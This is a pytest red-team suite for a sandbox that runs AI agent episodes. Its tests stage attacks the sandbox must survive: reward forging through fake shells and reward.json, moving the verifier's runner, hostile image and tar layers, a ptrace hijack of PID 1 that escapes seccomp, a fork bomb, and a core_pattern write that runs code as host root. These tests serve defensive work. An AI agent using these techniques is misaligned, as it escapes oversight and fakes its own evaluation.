"""Red team of episodes on an image (:mod:`sequester.environments.local.image_start`):
attacks by the agent, by a hostile image, by a hostile layer tar. Each test is an attack
that passes only while the protection holds. Those under "held" held when written; the
five under "found broken when written" did not (each docstring says how), and each fails
if its fix is removed.

Images are busybox (no bash, no Python): the agent's tools are busybox and the runner's
own programs at /opt/sequester-verifier, which it may run like any program.
"""

from __future__ import annotations

import io
import os
import shutil
import stat
import subprocess
import tarfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from images import busybox_rootfs, oci_from_rootfs
from registry import skip_unless_tools
from tasks import make_task

from sequester.environments.local.episode import Episode
from sequester.sandbox.remove import remove_tree
from sequester.environments.settings import EpisodeSettings
from sequester.environments.verdict import VerifierError, VerifierResult
from sequester.errors import ImageError
from sequester.images import ImageSettings, ImageStore
from sequester.images.unpack import unpack_layer
import platform
import signal

PY = "/opt/sequester-verifier/bin/python3"  # the runner's Python: in every view, usable by the agent
WORK_TEST = ('test "$(cat /app/out.txt 2>/dev/null)" = hello && echo 1 > /logs/verifier/reward.txt '
             '|| echo 0 > /logs/verifier/reward.txt\n')
root_only = pytest.mark.skipif(os.geteuid() != 0, reason="the agent is host uid 0 only when sequester runs as root")


@pytest.fixture(scope="module")
def store(tmp_path_factory) -> Iterator[ImageSettings]:
    skip_unless_tools("skopeo")
    root = tmp_path_factory.mktemp("redteam-store")
    settings = ImageSettings(store_dir=root / "store", source="prebuilt")
    ImageStore(settings).import_source(str(busybox_rootfs()), "test/bb:1")
    yield settings
    remove_tree(root)


def _task(root: Path, test_sh: str = WORK_TEST, image: str = "test/bb:1", name: str = "t") -> Path:
    toml = f'[environment]\ndocker_image = "{image}"\nworkdir = "/app"\n'
    return make_task(root, name, test_sh, toml=toml, dockerfile="FROM scratch\n")


def _episode(settings: ImageSettings, **kw) -> Episode:
    return Episode(EpisodeSettings(images=settings, **kw))


def _verdict(ep: Episode) -> VerifierResult:
    """A verdict: any VerifierError (a voided trial) fails the test."""
    try:
        return ep.evaluate()
    except VerifierError as exc:
        pytest.fail(f"the agent voided its verdict: {type(exc).__name__}: {exc}")


def _snapshot(layer: Path) -> dict[str, tuple]:
    """Everything of a layer folder an attack could change (metadata, xattrs, content)."""
    seen = {}
    for folder, dirs, files in os.walk(layer):
        for name in [".", *dirs, *files]:
            path = os.path.join(folder, name)
            st = os.lstat(path)
            data = open(path, "rb").read() if os.path.isfile(path) and not os.path.islink(path) else b""
            xattrs = sorted(os.listxattr(path, follow_symlinks=False))
            seen[os.path.relpath(path, layer)] = (st.st_mode, st.st_uid, st.st_gid, st.st_size, st.st_mtime_ns,
                                                  st.st_nlink, st.st_ino, xattrs, data)
    return seen


# -- held ----------------------------------------------------------------------------


def test_signals_to_pid1_change_nothing(tmp_path, store):
    """The init (the runner's bash) ignores every signal the agent may send."""
    with _episode(store) as ep:
        ep.reset(_task(tmp_path))
        out = ep.exec("echo hello > /app/out.txt; for s in KILL TERM INT HUP QUIT USR1 USR2 CHLD PIPE ALRM; do "
                      "kill -$s 1; done; sleep 0.5; cat /proc/1/comm", timeout=20).stdout
        assert out.strip().endswith("bash"), out
        assert ep.exec("echo still").stdout.strip() == "still"
        assert _verdict(ep).reward == 1.0


def test_writes_never_reach_the_store_or_another_episode(tmp_path, store):
    """Copy-up everywhere: links, metadata, xattrs of overlay's own names, whiteouts,
    reopening through /proc, deletions. The store's layer stays byte-identical and a
    concurrent episode on the image sees it as it is, unlocked."""
    image_store = ImageStore(store)
    lease = image_store.lease(image_store.find("test/bb:1"))
    lease.release()
    layer = lease.layers[0]
    before = _snapshot(layer)
    task = _task(tmp_path)
    with _episode(store) as a, _episode(store) as b:
        a.reset(task)
        b.reset(task)
        r = a.exec(f"""
ln /bin/busybox /bin/bb2 && echo garbage >> /bin/bb2
chmod 000 /etc/passwd; chown 7:7 /etc/group; touch -d 2001-01-01 /root /etc
exec 3</etc/group; echo via-fd > /proc/self/fd/3; exec 3<&-
echo evil >> /etc/passwd 2>/dev/null; chmod 644 /etc/passwd; echo evil >> /etc/passwd
mknod /usr/.wh-test c 0 0; ln /etc/passwd /app/pw 2>/dev/null && echo CROSS_LINK
ls /proc/1/root/oldroot 2>/dev/null && echo OLDROOT
{PY} -c "
import fcntl, os, time
for p, n in (('/usr/bin', 'user.overlay.opaque'), ('/etc/group', 'user.overlay.redirect'), ('/sbin', 'user.x')):
    os.setxattr(p, n, b'y')
f = open('/etc/shadow-none', 'w'); g = open('/bin/busybox'); fcntl.flock(g, fcntl.LOCK_EX)
if os.fork() == 0:
    time.sleep(60)
"
rm -rf /usr/bin/* /sbin/*; echo done""", timeout=30)
        # One filesystem, as in a container: a hard link from /etc to /app is made in the
        # episode's own layer (copied up first); the store's file is untouched (below).
        assert r.stdout.strip().endswith("done") and "CROSS_LINK" in r.stdout and "OLDROOT" not in r.stdout, r
        seen = b.exec(f"grep -c evil /etc/passwd; ls /usr/bin | wc -l; ls -l /etc/group | cut -c1-10; {PY} -c \""
                      "import fcntl; fcntl.flock(open('/bin/busybox'), fcntl.LOCK_EX | fcntl.LOCK_NB); print('free')\"")
        mode = stat.filemode(os.stat(layer / "etc" / "group").st_mode)
        assert seen.stdout.split() == ["0", str(len(os.listdir(layer / "usr" / "bin"))), mode, "free"], seen
    assert _snapshot(layer) == before


RENAME_C = r"""
#include <errno.h>
#include <stdio.h>
#include <string.h>
int main(int argc, char **argv) {
    if (rename(argv[1], argv[2]) == 0) { puts("renamed"); return 0; }
    printf("%s\n", strerror(errno)); return 1;
}
"""


def _static(tmp: Path, name: str, source: str) -> Path:
    if shutil.which("gcc") is None:
        pytest.skip("gcc is needed for the static helper (.ci/run installs it)")
    (tmp / f"{name}.c").write_text(source)
    done = subprocess.run(["gcc", "-static", "-O1", "-o", str(tmp / name), str(tmp / f"{name}.c")],
                          capture_output=True, text=True)
    if done.returncode != 0:
        pytest.skip(f"no static C library for the helper: {done.stderr[-300:]}")
    return tmp / name


@pytest.mark.parametrize("image_has_opt", [False, True])
def test_the_runner_cannot_be_moved_away(tmp_path, store, image_has_opt):
    """The runner's mount point and its parent are folders of the runner skeleton, a lower
    layer: the agent can rename neither (EXDEV, whether the image has /opt or not: red team,
    an image without /opt had it made in the writable layer, which the agent renamed and
    replaced by a link it flipped to a fake runner while the verifier looked it up), nor
    remove the mount point, nor write below it; a fake runner cannot take its place and
    the verdict is the runner's."""
    ren = _static(tmp_path, "ren", RENAME_C)
    fake = "#!/bin/busybox sh\necho 1 > /logs/verifier/reward.txt\n"
    image = "test/bb:1"
    if image_has_opt:
        image = "test/bb-opt:1"
        _rootfs_image(store, tmp_path, image, lambda root: (root / "opt" / "vendor").mkdir(parents=True))
    with _episode(store) as ep:
        ep.reset(_task(tmp_path, image=image))
        ep.write_file("/usr/local/bin/ren", ren.read_bytes(), mode=0o755)
        assert ep.exec("ls /opt").stdout.split() == (["sequester-verifier", "vendor"] if image_has_opt
                                                      else ["sequester-verifier"])
        r = ep.exec("ren /opt /opt2; ren /opt/sequester-verifier /x; rmdir /opt/sequester-verifier; "
                    "mkdir /opt/sequester-verifier/evil; ln -sfn /tmp /opt/sequester-verifier 2>&1; "
                    "ls -d /opt/sequester-verifier/bin/bash")
        assert "renamed" not in r.stdout, r
        assert r.stdout.count("Invalid cross-device link") + r.stdout.count("Device or resource busy") >= 2, r
        assert r.stdout.rstrip().endswith("/opt/sequester-verifier/bin/bash"), r
        try:
            ep.write_file("/opt/sequester-verifier/bin/bash", fake, mode=0o755)
        except Exception:  # noqa: BLE001 - read-only: refused
            pass
        assert _verdict(ep).reward == 0.0


def test_agents_shells_never_run_in_the_verifier(tmp_path, store):
    """/bin/sh, ls, dash, env replaced by programs that forge a reward: the verifier's
    names are the runner's."""
    fake = "#!/opt/sequester-verifier/bin/bash\necho 1 > /logs/verifier/reward.txt\nexit 0\n"
    test_sh = ('if /bin/sh -c "exit 3" || /bin/ls /no-such-file || /bin/env false; then echo 1; else echo 0; fi '
               '> /logs/verifier/reward.txt\n')
    with _episode(store) as ep:
        ep.reset(_task(tmp_path, test_sh))
        for name in ("/bin/sh", "/bin/ls", "/bin/dash", "/bin/env", "/usr/bin/env"):
            ep.exec(f"rm -f {name}")
            ep.write_file(name, fake, mode=0o755)
        assert ep.exec("/bin/sh -c 'exit 3'; echo $?").stdout.strip() == "0"  # the agent's own sh is the fake
        assert _verdict(ep).reward == 0.0


def _rootfs_image(store: ImageSettings, tmp: Path, tag: str, edit) -> None:
    root = tmp / "rootfs"
    shutil.copytree(busybox_rootfs(), root, symlinks=True)
    try:
        edit(root)
        ImageStore(store).import_source(str(root), tag)
    finally:
        remove_tree(root)


def _odd_names(root: Path) -> None:
    for name in ("a,b", "x:y", "n\nl", "c,upperdir=x", "oldroot", "newroot"):
        (root / name).mkdir()
        (root / name / "f").write_text(name)


def _top_links(root: Path) -> None:
    os.symlink("/oldroot/etc", root / "opt")  # bwrap would follow it out of the new root
    os.symlink("/", root / "tests")
    os.symlink("/oldroot/etc", root / "logs")


@pytest.mark.parametrize("edit", [_odd_names, _top_links], ids=lambda f: f.__name__.strip("_"))
def test_hostile_image_layouts_keep_the_view_and_the_verdict(tmp_path, store, edit):
    tag = f"test/{edit.__name__.strip('_').replace('_', '-')}:1"
    _rootfs_image(store, tmp_path, tag, edit)
    with _episode(store) as ep:
        ep.reset(_task(tmp_path, image=tag))
        out = ep.exec("echo hello > /app/out.txt; ls -A /tests | wc -l; ls -A /logs | wc -l; "
                      "ls /opt/sequester-verifier/bin/bash").stdout
        assert out.split() == ["0", "2", "/opt/sequester-verifier/bin/bash"], out  # (/logs: agent, artifacts)
        assert _verdict(ep).reward == 1.0


@pytest.mark.slow
def test_image_runner_mount_point_as_a_link_never_reaches_the_host(tmp_path, store):
    """The image's /opt/sequester-verifier is a link into bwrap's old root (the host's
    tree): refused with a clear ImageError before bwrap runs (bwrap would follow it in its
    own mount namespace), and nothing is made or mounted on the host."""
    (tmp_path / "exists").mkdir()
    for i, target in enumerate((f"/oldroot{tmp_path}/made/x", f"/oldroot{tmp_path}/exists", "/oldroot/etc")):
        def edit(root: Path, target=target) -> None:
            (root / "opt").mkdir()
            os.symlink(target, root / "opt" / "sequester-verifier")
        _rootfs_image(store, tmp_path, f"test/runner-link{i}:1", edit)
        try:
            with _episode(store) as ep:
                ep.reset(_task(tmp_path, image=f"test/runner-link{i}:1", name=f"t{i}"))
                bash = "/opt/sequester-verifier/bin/bash"
                assert ep.exec(f"ls {bash}").stdout.strip() == bash
        except ImageError as exc:
            assert "/opt/sequester-verifier, where the verifier's runner is mounted" in str(exc)
        else:
            raise AssertionError("an image holding the runner's mount point was used")
    assert not (tmp_path / "made").exists() and os.listdir(tmp_path / "exists") == []
    assert not os.path.ismount(tmp_path / "exists") and not os.path.ismount("/etc") and not os.path.exists("/etc/ready")


@pytest.mark.slow
def test_hostile_image_config_is_refused_before_anything_runs(tmp_path, store):
    """A User missing from /etc/passwd (behind a 2 MiB line), more top-level entries than
    planned: a clean ImageError at reset, and no episode left behind."""
    skip_unless_tools("umoci")
    root = tmp_path / "rootfs"
    shutil.copytree(busybox_rootfs(), root, symlinks=True)
    with open(root / "etc" / "passwd", "a") as f:
        f.write("x" * (2 << 20) + ":x:1:1::/:/bin/sh\nbob:x:1000:1000::/home/bob:/bin/sh\n")
    ImageStore(store).import_source(oci_from_rootfs(root, tmp_path / "layout", "u", user="bob"), "test/bob:1")
    for i in range(5000):
        (root / f"top{i}").mkdir()
    ImageStore(store).import_source(str(root), "test/wide:1")
    remove_tree(root)
    state = tmp_path / "state"
    for tag, said in (("test/bob:1", "not in its /etc/passwd"), ("test/wide:1", "top-level entries")):
        with pytest.raises(ImageError, match=said):
            Episode(EpisodeSettings(images=store, state_dir=state)).reset(
                _task(tmp_path, image=tag, name=tag.split("/")[1].split(":")[0]))
    assert not state.exists() or not [p for p in state.iterdir() if p.name[0].isdigit()]


def _member(name: str, kind: str = "file", data: bytes = b"", link: str = "", **pax: str) -> tuple:
    info = tarfile.TarInfo(name)
    info.type = {"file": tarfile.REGTYPE, "dir": tarfile.DIRTYPE, "sym": tarfile.SYMTYPE, "link": tarfile.LNKTYPE}[kind]
    info.size, info.linkname, info.mode, info.pax_headers = len(data), link, 0o755, pax
    return info, data


def _layer(tmp: Path, members: list) -> Path:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for info, data in members:
            tar.addfile(info, io.BytesIO(data) if info.isreg() else None)
    blob = tmp / f"layer-{len(list(tmp.iterdir()))}"
    blob.write_bytes(buf.getvalue())
    return blob


X = "SCHILY.xattr."
REFUSED_LAYERS = {
    "whiteout-as-folder": [_member(".wh./x", data=b"x")],
    "whiteout-of-nothing": [_member(".wh.")],
    "whiteout-of-parent": [_member("d/.wh...")],
    "opaque-through-link": [_member("l", "sym", link="OUT"), _member("l/.wh..wh..opq")],
    "whiteout-through-link": [_member("l", "sym", link="OUT"), _member("l/.wh.canary")],
    "pax-path-escape": [_member("ok", data=b"x", path="../escaped")],
    "pax-linkpath-escape": [_member("f", data=b"x"), _member("h", "link", linkpath="../canary")],
    "hardlink-through-link": [_member("l", "sym", link="OUT"), _member("h", "link", link="l/canary")],
    "file-through-replaced-dir": [_member("d", "dir"), _member("d", "sym", link="OUT"), _member("d/x", data=b"pwn")],
}


@pytest.mark.parametrize("case", sorted(REFUSED_LAYERS))
def test_layer_tricks_are_refused_and_write_nothing_outside(tmp_path, case):
    out = tmp_path / "outside"
    out.mkdir()
    (out / "canary").write_text("canary")
    members = [(_member(i.name, "sym", link=str(out)) if i.issym() else (i, d)) for i, d in REFUSED_LAYERS[case]]
    with pytest.raises(ImageError, match="member"):
        unpack_layer(_layer(tmp_path, members), tmp_path / "dest")
    assert sorted(os.listdir(out)) == ["canary"] and (out / "canary").read_text() == "canary"
    assert sorted(p.name for p in tmp_path.iterdir() if not p.name.startswith("layer-")) == ["outside"]


def test_layer_xattrs_never_reach_the_overlay(tmp_path):
    """PAX xattrs (overlay's own user.overlay.*, trusted.*, a file capability) are dropped."""
    blob = _layer(tmp_path, [
        _member("d", "dir", **{X + "user.overlay.opaque": "y", X + "trusted.overlay.opaque": "y"}),
        _member("d/f", data=b"x", **{X + "user.overlay.redirect": "/etc", X + "user.overlay.metacopy": "",
                                     X + "security.capability": "\x01\x00\x00\x02\xff\xff\xff\xff",
                                     "LIBARCHIVE.xattr.user.overlay.opaque": "eQ=="}),
    ])
    unpack_layer(blob, tmp_path / "dest")
    assert os.listxattr(tmp_path / "dest" / "d") == [] and os.listxattr(tmp_path / "dest" / "d" / "f") == []


# -- found broken when written, fixed since ----------------------------------------------------

@root_only
def test_a_root_callers_agent_cannot_write_global_sysctls_or_host_devices(tmp_path, store):
    """Was broken (fixed: /proc/sys, /proc/sysrq-trigger, ... and the host's device nodes
    are read-only mounts in the view). As root, the agent's uid (0, or an image's User) maps to host uid 0, and
    procfs lets host uid 0 write global sysctls whatever its capabilities: bwrap covers
    /proc/sys only if it is writable, and that folder never is, while its files are.
    `echo '|/var/tmp/sequester-episodes/<id>/new/app/x' > /proc/sys/kernel/core_pattern`
    (the path is in /proc/self/mountinfo), then a crash, runs x as root on the host.
    The host's /dev nodes are bound in and owned by uid 0 too: chmod, chown and touch
    reach the host's own /dev/null. Here only opened for append (nothing written) and a
    touch."""
    devnull = os.stat("/dev/null")
    with _episode(store) as ep:
        ep.reset(_task(tmp_path))
        out = ep.exec("for f in /proc/sys/kernel/core_pattern /proc/sys/vm/drop_caches /proc/sys/kernel/pid_max; do "
                      "( : >> $f ) 2>/dev/null && echo WRITABLE $f; done; touch /dev/null").stdout
    assert "WRITABLE" not in out, out
    now = os.stat("/dev/null")
    assert (now.st_mtime_ns, now.st_mode, now.st_uid) == (devnull.st_mtime_ns, devnull.st_mode, devnull.st_uid)


_HIJACK = r'''
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype, libc.ptrace.argtypes = ctypes.c_long, [ctypes.c_long] * 2 + [ctypes.c_void_p] * 2
if libc.ptrace(16, 1, None, None) != 0:     # PTRACE_ATTACH
    sys.exit("attach refused")
os.waitpid(1, 0)
class Regs(ctypes.Structure):
    _fields_ = [(n, ctypes.c_ulonglong) for n in ("r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi "
                                                   "orig_rax rip cs eflags rsp ss fs_base gs_base ds es fs gs").split()]
r = Regs()
libc.ptrace(12, 1, None, ctypes.byref(r))   # PTRACE_GETREGS: pid 1 waits in a syscall
at = (r.rsp - 4096) & ~15
with open("/proc/1/mem", "r+b", buffering=0) as mem:
    mem.seek(at)
    mem.write(b"/tmp/payload".ljust(256, b"\0") + at.to_bytes(8, "little") + bytes(8))
r.rax, r.rdi, r.rsi, r.rdx, r.orig_rax, r.rip = 59, at, at + 256, 0, 2**64 - 1, r.rip - 2   # execve
libc.ptrace(13, 1, None, ctypes.byref(r))
libc.ptrace(17, 1, None, None)
'''
_PAYLOAD = ("#!/bin/sh\ngrep -E 'Seccomp:|Max processes' /proc/self/status /proc/self/limits > /tmp/proof\n"
            "exec /opt/sequester-verifier/bin/bash -c 'while :; do sleep 86400 & wait $!; done'\n")


@pytest.mark.skipif(platform.machine() != "x86_64", reason="the register layout is x86_64's")
def test_pid1_taken_over_by_ptrace_runs_confined(tmp_path, store):
    """Was broken (fixed: the init runs under the agent's filter and process limit). The init has no seccomp filter and no RLIMIT_NPROC, and the agent may
    ptrace (allowed by its filter; same uid, same capabilities, no Yama): it makes PID 1
    execve its own program, which runs with Seccomp 0 and the host's process limit (a fork
    bomb the limit does not stop)."""
    with _episode(store, max_processes=100) as ep:
        ep.reset(_task(tmp_path))
        ep.write_file("/tmp/hijack.py", _HIJACK)
        ep.write_file("/tmp/payload", _PAYLOAD, mode=0o755)
        ep.exec(f"{PY} /tmp/hijack.py; sleep 1", timeout=20)
        proof = ep.exec("cat /tmp/proof 2>/dev/null").stdout
    fields = {line.split(":")[1].strip().split()[0]: line.split() for line in proof.splitlines()}
    assert "Seccomp" not in fields or fields["Seccomp"][1] != "0", proof
    assert "Max" not in fields or int(fields["Max"][2]) <= 100, proof


_BOMB = ("import os, time\nwhile True:\n    try:\n        if os.fork() == 0:\n            time.sleep(600)\n"
         "            os._exit(0)\n    except OSError:\n        time.sleep(0.001)\n")


@pytest.mark.slow
def test_an_agent_at_its_process_limit_cannot_void_the_trial(tmp_path, store):
    """Was broken (fixed: a shell that cannot be restarted is an ExecResult with a note). Processes that take every free slot up to max_processes, then the shell
    kills itself: the episode restarts the shell, whose exec fails with EAGAIN after its
    setrlimit, and exec() raises SandboxError, so the trial ends in an error, not a
    verdict (the agent's trainer drops it)."""
    with _episode(store, max_processes=64) as ep:
        ep.reset(_task(tmp_path))
        ep.write_file("/tmp/bomb.py", _BOMB)
        ep.exec("echo hello > /app/out.txt")
        ep.exec(f"setsid {PY} /tmp/bomb.py >/dev/null 2>&1 & sleep 3; kill -9 $$", timeout=10)
        ep.exec("echo after", timeout=10)  # any ExecResult is fine; raising is not
        assert _verdict(ep).reward == 1.0


_STALE_FOREGROUND = r'''
import os, signal, time
signal.signal(signal.SIGTTOU, signal.SIG_IGN)
signal.signal(signal.SIGINT, signal.SIG_IGN)
pid = os.fork()
if pid == 0:
    os.setpgid(0, 0)
    time.sleep(100)
    os._exit(0)
os.setpgid(pid, pid)
os.tcsetpgrp(2, pid)           # the terminal's foreground: a group that is about to die
os.kill(pid, signal.SIGKILL)
os.waitpid(pid, 0)
time.sleep(100)                # run over the timeout, deaf to ^C
'''


def _episode_members(pgid: int, ns: str) -> list[int]:
    members = []
    for entry in os.listdir("/proc"):
        try:
            fields = open(f"/proc/{entry}/stat").read().rsplit(")", 1)[1].split()
            if int(fields[2]) == pgid and os.readlink(f"/proc/{entry}/ns/pid") == ns:
                members.append(int(entry))
        except (OSError, ValueError, IndexError):
            continue
    return members


@pytest.mark.slow
def test_a_timed_out_exec_signals_only_processes_of_the_episode(tmp_path, store, monkeypatch):
    """Was broken: on a timeout the host SIGKILLed, as root, the process group the agent's
    terminal names, by number. The agent can make that a group that no longer exists,
    whose number the host may reuse (after a wrap of the pid counter, which the agent can
    drive). Now every signal goes through a pidfd to a process checked to be in the
    episode's PID namespace, and the stale group's command still ends."""
    sent, by_number = [], []
    real_send = signal.pidfd_send_signal

    def recording_send(fd: int, sig: int, *args) -> None:
        pid = int(next(line.split()[1] for line in open(f"/proc/self/fdinfo/{fd}") if line.startswith("Pid:")))
        sent.append((pid, os.readlink(f"/proc/{pid}/ns/pid")))
        real_send(fd, sig, *args)

    monkeypatch.setattr(signal, "pidfd_send_signal", recording_send)
    monkeypatch.setattr(os, "killpg", lambda *a: by_number.append(a))
    with _episode(store) as ep:
        ep.reset(_task(tmp_path))
        ns = os.readlink(f"/proc/{ep.init_pid}/ns/pid")
        ep.write_file("/tmp/stale.py", _STALE_FOREGROUND)
        assert ep.exec(f"{PY} /tmp/stale.py", timeout=3).timed_out
        assert ep.exec("pgrep -f stale.py || echo gone").stdout.strip() == "gone"  # the command was ended
    assert not by_number and sent and all(pid_ns == ns for _, pid_ns in sent), (by_number, sent)


def test_a_program_under_test_cannot_forge_reward_json(tmp_path, store):
    """Was broken (as in Harbor's shared mode; fixed: a task whose tests never name
    reward.json gets its verdict from reward.txt, and nothing the tests started outlives
    the script). The tests run the agent's program;
    it writes /logs/verifier/reward.json, which is read before the reward.txt the test
    script writes: the tests say 0, the verdict is 1."""
    test_sh = ('/app/prog >/dev/null 2>&1; test "$(cat /app/out.txt 2>/dev/null)" = hello && echo 1 '
               '> /logs/verifier/reward.txt || echo 0 > /logs/verifier/reward.txt\n')
    with _episode(store) as ep:
        ep.reset(_task(tmp_path, test_sh))
        ep.write_file("/app/prog", "#!/bin/sh\necho '{\"reward\": 1.0}' > /logs/verifier/reward.json\n", mode=0o755)
        assert _verdict(ep).reward == 0.0
